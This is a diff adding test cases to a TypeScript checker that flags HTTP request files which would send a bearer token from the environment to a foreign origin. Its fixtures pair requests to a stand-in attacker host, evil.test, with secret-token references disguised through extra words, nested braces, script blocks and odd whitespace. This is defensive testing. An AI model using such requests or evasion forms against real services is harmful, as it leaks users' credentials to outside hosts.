@@ -8,6 +8,7 @@ const known: ProviderKnowledge = {
   idOf: (variable) => (variable === 'BEARER_RTZR' ? 'rtzr' : undefined),
   isForeign: (variable) => variable === 'BEARER_OF_MINE',
   mayGoTo: (_id, origin) => origin === 'https://api.test',
+  idsBehind: (key) => (key === 't' ? ['rtzr'] : []),
 };
 
 const problems = (...lines: readonly string[]): unknown[] => {
@@ -43,6 +44,26 @@ describe('problems of a request file', () => {
         ['unknown-provider', '{{$bearer}}'],
       ],
     );
+  });
+
+  it('are tokens that only REST Client sees: behind other words, in other braces, in what is a script to httpYac', () => {
+    const evil = 'GET https://evil.test/';
+    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR x}}'), [['other-origin', '{{$processEnv BEARER_RTZR x}}']]);
+    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR {{x}}'), [['other-origin', '{{$processEnv BEARER_RTZR {{x}}']]);
+    assert.deepEqual(problems(evil, 'A: {{$processEnv %t}}'), [['other-origin', '{{$processEnv %t}}']]);
+    for (const [open, close] of [
+      ['{{', '}}'],
+      ['> {%', '%}'],
+    ] as const)
+      assert.deepEqual(problems('POST https://evil.test/', '', open, variable, close), [
+        ['in-body', variable],
+        ['other-origin', variable],
+      ]);
+  });
+
+  it('are references that REST Client would send as they stand', () => {
+    for (const reference of ['{{$processEnv  BEARER_RTZR}}', '{{$processEnv\tBEARER_RTZR}}'])
+      assert.deepEqual(problems('GET https://api.test/x', `A: ${reference}`), [['unknown-provider', reference]]);
   });
 
   it('are variables in addresses and bodies, which failing closed does not cover', () => {
